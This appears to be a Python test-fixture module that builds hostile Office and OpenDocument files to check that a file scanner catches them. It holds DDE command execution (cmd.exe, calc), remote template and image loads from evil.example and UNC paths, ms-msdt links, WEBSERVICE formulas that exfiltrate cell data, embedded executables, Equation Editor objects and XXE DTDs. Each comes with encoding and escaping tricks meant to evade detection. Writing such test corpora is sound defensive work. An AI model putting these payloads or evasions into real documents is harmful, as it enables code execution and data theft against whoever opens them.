"""Office files that act on whoever opens them, each kind in the shapes that get past a search of the bytes."""

import io
import zipfile
from collections.abc import Iterator

from tests.hostile.compound import compound
from tests.hostile.files import (
    DTD,
    ENTITIES,
    INSIDE,
    LINKS,
    LOCKED,
    MACRO,
    OLE,
    TYPES,
    Hostile,
    excel,
    part_of,
    repacked,
    word,
)

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
UNSAFE, UNKNOWN = "nơi không an toàn", "không thuộc tệp Word"
EXE = b"MZ\x90\x00" + bytes(200)
PROGRAM = compound({"\x01OLE10NATIVE": EXE})
MATHTYPE, EQUATION = "0002CE03-0000-0000-C000-000000000046", "0002CE02-0000-0000-C000-000000000046"


def links(*relationships: str) -> str:
    return f'<Relationships xmlns="{PACKAGE}">{"".join(relationships)}</Relationships>'


def link(kind: str, target: str, mode: str = 'TargetMode="External"', more: str = "") -> str:
    return f'<Relationship Id="r9" {more} Type="{OFFICE}{kind}" Target="{target}" {mode}/>'


def linked(*relationships: str, document=word) -> bytes:
    return document(**{"word/_rels/settings.xml.rels": links(*relationships)})


def declared(document: bytes, types: dict[str, str], **parts: bytes | str) -> bytes:
    """The document with further parts and their content types."""
    listed = part_of(document, TYPES)
    more = "".join(f'<Override PartName="/{part}" ContentType="{kind}"/>' for part, kind in types.items())
    return repacked(document, {TYPES: listed.replace("</Types>", more + "</Types>"), **parts})


def paragraph(inner: str) -> bytes:
    body = part_of(word(), "word/document.xml").replace("<w:body>", f"<w:body><w:p>{inner}</w:p>", 1)
    return word(**{"word/document.xml": body})


def field(*codes: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return paragraph(f"{mark('begin')}{runs}{mark('separate')}<w:r><w:t>x</w:t></w:r>{mark('end')}")


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def sheet(inner: str, encoding: str = "utf-8") -> bytes:
    text = part_of(excel(), "xl/worksheets/sheet1.xml")
    text = text.replace("<sheetData></sheetData>", inner).replace("<sheetData />", inner)
    text = text.replace("<sheetData/>", inner)
    return excel(**{"xl/worksheets/sheet1.xml": text.encode(encoding)})


def formula(words: str) -> bytes:
    return sheet(f"<sheetData><row><c><f>{words}</f></c></row></sheetData>")


def workbook(inner: str) -> bytes:
    text = part_of(excel(), "xl/workbook.xml")
    return excel(**{"xl/workbook.xml": text.replace("</workbook>", f"{inner}</workbook>")})


def odf(content: str = "", extension: str = "text", **parts: bytes | str) -> bytes:
    """An OpenDocument file whose body holds ``content``."""
    out = io.BytesIO()
    names = ("office", "text", "table", "draw", "script", "form", "meta", "presentation", "xforms")
    spaces = " ".join(f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in names)
    spaces += ' xmlns:xlink="http://www.w3.org/1999/xlink"'
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", f"application/vnd.oasis.opendocument.{extension}", zipfile.ZIP_STORED)
        body = f"<office:document-content {spaces}><office:body>{content}</office:body></office:document-content>"
        for name, value in {"content.xml": body, "META-INF/manifest.xml": "<manifest/>", **parts}.items():
            archive.writestr(name, value)
    return out.getvalue()


def harmful() -> Iterator[Hostile]:
    for name, files in (("a.docx", _word()), ("a.xlsx", _excel()), ("a.odt", _odf()), ("", _old())):
        for about, content, words in files:
            yield Hostile(about, name or f"a.{about.split()[1].lower()}", content, words)


def _word() -> Iterator[tuple[str, bytes, str]]:
    evil = "http://evil.example/x.dotm"
    template = links(link("attachedTemplate", evil))
    yield "a template, letter by reference", linked(link("attached&#84;emplate", evil)), LINKS
    yield (
        "a template, mode by reference",
        linked(link("attachedTemplate", evil, 'TargetMode="&#69;xternal"')),
        LINKS,
    )
    yield "a template in UTF-16", word(**{"word/_rels/settings.xml.rels": template.encode("utf-16")}), LINKS
    yield "a template behind a bracket", linked(link("attachedTemplate", evil, more='x="a>b"')), LINKS
    yield "a template on another machine", linked(link("attachedTemplate", "file://evil/x.dotx")), LINKS
    yield "a template by two slashes", linked(link("attachedTemplate", r"\\evil\share\x.dotx")), LINKS
    yield "a picture from afar", linked(link("image", "http://evil.example/x.png")), LINKS
    yield "a picture on another machine", linked(link("image", r"\\evil\share\x.png")), LINKS
    yield "a picture on another machine, escaped", linked(link("image", "file:///%5C%5Cevil/x.png")), LINKS
    yield "a picture without mode", linked(link("image", "http://evil.example/x.png", "")), LINKS
    yield "text merged in from afar", linked(link("aFChunk", "http://evil.example/x.html")), LINKS
    for kind, content in (("mht", "MIME-Version: 1.0"), ("rtf", r"{\rtf1 x}"), ("html", "<html/>")):
        yield f"text merged in, {kind}", word(**{f"word/afchunk.{kind}": content}), "Tệp “a.docx” có"
        types = {f"word/afchunk.{kind}": "application/octet-stream"}
        yield (
            f"text merged in, declared, {kind}",
            declared(word(), types, **{f"word/afchunk.{kind}": content}),
            "có",
        )
    yield (
        "a drawing's source",
        paragraph('<w:r><w:pict><v:imagedata xmlns:v="v" src="\\\\evil\\x.png"/></w:pict></w:r>'),
        LINKS,
    )
    yield "letters to be merged", word(**{"word/x.xml": "<a><connectString val='DSN=x'/></a>"}), LINKS
    yield (
        "a Flat OPC in a part",
        word(**{"word/x.xml": f"<p>{link('image', 'http://evil.example/')}</p>"}),
        LINKS,
    )
    yield "bytes in a Flat OPC", word(**{"word/x.xml": "<p><binaryData>TVqQ</binaryData></p>"}), INSIDE
    yield from _fields()
    for target in (
        r"\\evil\share",
        "file://evil/x",
        "//evil/x",
        "search-ms:query=x",
        "ms-msdt:/id",
        "file:////evil/x",
    ):
        yield f"a link to {target}", linked(link("hyperlink", target)), UNSAFE
    app = part_of(word(), "docProps/app.xml").replace(
        "</Properties>", r"<HyperlinkBase>\\evil\x</HyperlinkBase></Properties>"
    )
    yield "a base of links", word(**{"docProps/app.xml": app}), UNSAFE
    late = f"<?xml version='1.0'?><!--{'x' * 70_000}-->" + DTD.partition("?>")[2] + "<a/>"
    yield "a document type behind a long comment", word(**{"word/x.xml": late}), ENTITIES
    yield (
        "a document type in EBCDIC",
        word(**{"word/x.xml": (DTD + "<a/>").encode("cp037")}),
        "không đọc được",
    )
    yield "a document type in a drawing", word(**{"word/media/x.vml": DTD + "<a/>"}), "có"
    types = {
        "word/printer.bin": "application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings"
    }
    yield "a document type in .bin", declared(word(), types, **{"word/printer.bin": DTD + "<a/>"}), ENTITIES
    yield "a program as settings", declared(word(), types, **{"word/printer.bin": EXE}), INSIDE
    yield "a program as .bin", word(**{"word/embeddings/x.bin": EXE}), INSIDE
    yield "a program without extension", word(**{"word/setup": EXE}), INSIDE
    yield "a program as a picture", word(**{"docProps/thumbnail.jpeg": EXE}), INSIDE
    ole = "application/vnd.openxmlformats-officedocument.oleObject"
    for about, content in (
        ("a packed program in capitals", PROGRAM),
        (
            "a packed program by its class",
            compound({"x": b"x"}, {"": "0003000C-0000-0000-C000-000000000046"}),
        ),
        ("the equation editor that was attacked", compound({"Equation Native": b"x"}, {"": EQUATION})),
        ("an object of nobody knows what", compound({"x": b"x"})),
        ("a page in an object", compound({"CONTENTS": b"<html>"})),
    ):
        part = {"word/embeddings/oleObject1.bin": content}
        yield about, declared(word(), dict.fromkeys(part, ole), **part), INSIDE
    part = {"word/embeddings/oleObject1.bin": OLE}
    yield "an object that is none", declared(word(), dict.fromkeys(part, ole), **part), "không đọc được"
    inner = repacked(word(), {"word/vbaProject.bin": "x"})
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    part = {"word/embeddings/x.docx": repacked(inner, {})}
    yield "macros in an inner document", declared(word(), dict.fromkeys(part, kind), **part), "có"
    part = {"word/embeddings/x.docx": linked(link("attachedTemplate", evil))}
    yield "a template in an inner document", declared(word(), dict.fromkeys(part, kind), **part), LINKS
    part = {"word/media/x.svg": "<svg><script>alert(1)</script></svg>"}
    yield "a script in a drawing", declared(word(), dict.fromkeys(part, "image/svg+xml"), **part), MACRO
    part = {"word/media/x.svg": '<svg><image href="http://evil.example/"/></svg>'}
    yield "a picture in a drawing", declared(word(), dict.fromkeys(part, "image/svg+xml"), **part), LINKS
    part = {"word/x.xml": "<a/>"}
    yield (
        "a part of its own kind",
        declared(word(), dict.fromkeys(part, "application/x-evil+xml"), **part),
        UNKNOWN,
    )


def _fields() -> Iterator[tuple[str, bytes, str]]:
    yield "DDE by reference", field("&#68;DEAUTO c:\\\\cmd.exe"), LINKS
    yield "DDE over runs", field("DD", "EA", "UTO c:\\\\cmd.exe"), LINKS
    yield "DDE in CDATA", field("<![CDATA[DDE]]>AUTO c:\\\\cmd.exe"), LINKS
    yield "DDE against its argument", field('DDEAUTO"c:\\\\cmd.exe" "/c"'), LINKS
    yield "DDE in a simple field", paragraph('<w:fldSimple w:instr=" ddeauto c:\\\\cmd.exe"/>'), LINKS
    yield (
        "DDE as text of runs",
        paragraph(f"{mark('begin')}<w:r><w:t>DDE c:\\\\cmd.exe</w:t></w:r>{mark('end')}"),
        LINKS,
    )
    yield (
        "DDE as deleted text",
        paragraph("<w:r><w:delInstrText>DDE c:\\\\cmd.exe</w:delInstrText></w:r>"),
        LINKS,
    )
    inner = f"{mark('begin')}<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>{mark('end')}"
    yield (
        "DDE put together by a field",
        paragraph(f"{mark('begin')}{inner}<w:r><w:instrText> c:\\\\cmd.exe</w:instrText></w:r>{mark('end')}"),
        LINKS,
    )
    utf16 = (
        part_of(field("DDEAUTO c:\\\\cmd.exe"), "word/document.xml")
        .replace("UTF-8", "UTF-16")
        .encode("utf-16")
    )
    yield "DDE in UTF-16", word(**{"word/document.xml": utf16}), LINKS
    types = {"word/x.dat": "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"}
    text = f"<w:footnotes {W}><w:instrText>DDE c:\\\\cmd.exe</w:instrText></w:footnotes>"
    yield "DDE in a part .dat", declared(word(), types, **{"word/x.dat": text}), LINKS
    yield "a picture by a field", field('INCLUDEPICTURE "\\\\\\\\evil\\\\x.png" \\d'), LINKS
    yield (
        "a picture by a field, from the web",
        field('INCLUDEPICTURE "http://evil.example/x" \\* MERGEFORMAT'),
        LINKS,
    )
    yield "a text by a field", field('INCLUDETEXT "http://evil.example/x"'), LINKS
    yield "an old name of it", field('IMPORT "//evil/x.png"'), LINKS
    yield "a linked sheet", field('LINK Excel.Sheet.12 "\\\\\\\\evil\\\\x.xlsx" "Sheet1!R1C1" \\a'), LINKS
    yield "a database", field('DATABASE \\c "DSN=x"'), LINKS
    yield "a link by a field", field('HYPERLINK "\\\\\\\\evil\\\\share"'), UNSAFE


def _excel() -> Iterator[tuple[str, bytes, str]]:
    for about, words in {
        "DDE by reference": "cmd&#124;'/C calc'!A0",
        "DDE in CDATA": "<![CDATA[cmd|'/C calc'!A0]]>",
        "DDE with a quoted server": "'cmd'|'/C calc'!A0",
        "DDE in quotes": "'cmd|/C calc'!A0",
        "DDE in a sum": "SUM(A1)+cmd|'/C calc'!A0",
        "a web service": '_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)',
        "live data": 'RTD("evil.server",,"x")',
        "a registered function": 'REGISTER("kernel32","WinExec","JCJ")',
        "a sheet on another machine": "'\\\\evil\\[x.xlsx]S'!A1",
        "a picture by a formula": '_xlfn.IMAGE("http://evil.example/x.png")',
    }.items():
        yield about, formula(words), LINKS
    yield "a link by a formula", formula('HYPERLINK("\\\\evil\\share","x")'), UNSAFE
    dde = "<sheetData><row><c><f>cmd|'/C calc'!A0</f></c></row></sheetData>"
    yield "DDE in UTF-16", sheet(dde, "utf-16"), LINKS
    yield (
        "DDE in a defined name",
        workbook("<definedNames><definedName name='x'>cmd|'/C calc'!A0</definedName></definedNames>"),
        LINKS,
    )
    rule = "<sheetData/><conditionalFormatting><cfRule><formula>cmd|'/C'!A0</formula></cfRule></conditionalFormatting>"
    yield "DDE in a rule", sheet(rule), LINKS
    path = "xl/externalLinks/externalLink1.xml"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    yield (
        "another workbook",
        declared(excel(), {path: kind}, **{path: "<externalLink><externalBook/></externalLink>"}),
        "có",
    )
    outside = links(link("externalLinkPath", "file:///D:/x.xlsx"))
    yield (
        "another workbook's place",
        excel(**{"xl/externalLinks/_rels/externalLink1.xml.rels": outside}),
        LINKS,
    )
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"
    web = '<connections><connection id="1" type="4" refreshOnLoad="1"><webPr url="http://evil.example/"/></connection></connections>'
    yield (
        "a connection to the web",
        declared(excel(), {"xl/connections.xml": kind}, **{"xl/connections.xml": web}),
        LINKS,
    )
    text = '<connections><connection id="1" type="6" refreshOnLoad="true"/></connections>'
    yield (
        "a connection that refreshes",
        declared(excel(), {"xl/connections.xml": kind}, **{"xl/connections.xml": text}),
        LINKS,
    )
    macro = "application/vnd.ms-excel.macrosheet+xml"
    yield (
        "a macro sheet",
        declared(excel(), {"xl/macrosheets/s.xml": macro}, **{"xl/macrosheets/s.xml": "<a/>"}),
        UNKNOWN,
    )
    yield (
        "a macro sheet by its relation",
        excel(**{"xl/_rels/x.xml.rels": links(link("xlMacrosheet", "s.xml", ""))}),
        MACRO,
    )


def _odf() -> Iterator[tuple[str, bytes, str]]:
    for about, content, words in (
        ("a picture on another machine", '<draw:image xlink:href="file://evil/x.png"/>', LINKS),
        ("a picture by two slashes", '<draw:image xlink:href="//evil/x.png"/>', LINKS),
        ("a picture by two backslashes", '<draw:image xlink:href="\\\\evil\\x.png"/>', LINKS),
        ("a picture from the web", '<draw:image xlink:href="http&#58;//evil.example/x.png"/>', LINKS),
        ("a linked section", '<text:section-source xlink:href="http://evil.example/x.odt"/>', LINKS),
        ("a section beside the document", '<text:section-source xlink:href="../x.odt"/>', LINKS),
        ("DDE in a section", '<office:dde-source office:dde-application="cmd"/>', LINKS),
        ("DDE in text", '<text:dde-connection-decl office:dde-application="cmd"/>', LINKS),
        ("a linked table", '<table:table-source xlink:href="file:///C:/x.ods"/>', LINKS),
        ("DDE in a formula", '<table:table-cell table:formula="of:=DDE(A1;A2;A3)"/>', LINKS),
        ("a web service", '<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil.example&quot;)"/>', LINKS),
        ("an object elsewhere", '<draw:object xlink:href="http://evil.example/o"/>', LINKS),
        ("a listener", '<script:event-listener xlink:href="vnd.sun.star.script:x"/>', MACRO),
        ("a listener of old", '<script:event-listener script:macro-name="x"/>', MACRO),
        ("a script", "<office:script>x</office:script>", MACRO),
        ("a frame", '<draw:floating-frame xlink:href="http://evil.example"/>', MACRO),
        ("a link to another machine", '<text:a xlink:href="file://evil/share"/>', UNSAFE),
        ("a link that runs", '<text:a xlink:href="vnd.sun.star.script:x"/>', UNSAFE),
    ):  # fmt: skip
        yield about, odf(content), words
    yield "an object by OLE", odf(**{"Object 1": PROGRAM}), INSIDE
    yield "an object that is none", odf(**{"Object 1": EXE}), "có"
    yield "a program among the pictures", odf(**{"Pictures/x.png": EXE}), INSIDE
    yield "a program at the root", odf(**{"setup": EXE}), INSIDE
    yield "a document type", odf(**{"styles.xml": DTD + "<a/>"}), ENTITIES
    yield "a document type in an object", odf(**{"Object 1/content.xml": DTD + "<a/>"}), ENTITIES
    yield "Basic", odf(**{"Basic/Standard/Module1.xml": "<a/>"}), MACRO
    yield "a dialog", odf(**{"Dialogs/x.xml": "<a/>"}), UNKNOWN
    yield "a password", odf(**{"META-INF/manifest.xml": "<manifest><encryption-data/></manifest>"}), LOCKED


def _old() -> Iterator[tuple[str, bytes, str]]:
    """``about``'s second word is the extension."""
    boundsheet = bytes((0x85, 0, 8, 0)) + bytes(5) + b"\x01\x01A"
    dde = "cmd\x03/C calc".encode("latin-1")
    supbook = bytes((0xAE, 1, 5 + len(dde), 0)) + b"\x01\x00" + bytes((len(dde), 0)) + b"\x00" + dde
    yield "a DOC with macros", compound({"WordDocument": b"x", "Macros/VBA/_VBA_PROJECT": b"x"}), MACRO
    yield (
        "a DOC with macros in small letters",
        compound({"WordDocument": b"x", "macros/vba/_vba_project": b"x"}),
        MACRO,
    )
    yield "an XLS with macros", compound({"Workbook": b"x", "_VBA_PROJECT_CUR/VBA/dir": b"x"}), MACRO
    yield "an XLS with a macro sheet", compound({"Workbook": boundsheet}), MACRO
    yield "an XLS with DDE", compound({"Workbook": supbook}), LINKS
    yield "an XLS with a password", compound({"Workbook": bytes((0x2F, 0, 2, 0, 1, 0))}), LOCKED
    yield (
        "a DOC with a packed program",
        compound({"WordDocument": b"x", "ObjectPool/_1/\x01OLE10NATIVE": b"x"}),
        INSIDE,
    )
    yield (
        "a DOC with DDE",
        compound({"WordDocument": bytes(64) + b"\x13 DDEAUTO c:\\\\cmd.exe \x14\x15"}),
        LINKS,
    )
    wide = '\x13 INCLUDEPICTURE "http://evil.example" \x14'.encode("utf-16-le")
    yield "a DOC with a picture by a field", compound({"WordDocument": bytes(64) + wide}), LINKS
    yield "a DOC with a password", compound({"WordDocument": bytes(11) + b"\x01" + bytes(60)}), LOCKED
    yield (
        "a DOC that links an object",
        compound({"WordDocument": b"x", "ObjectPool/_1/\x01Ole": b"\x01\x00\x00\x02\x01"}),
        LINKS,
    )
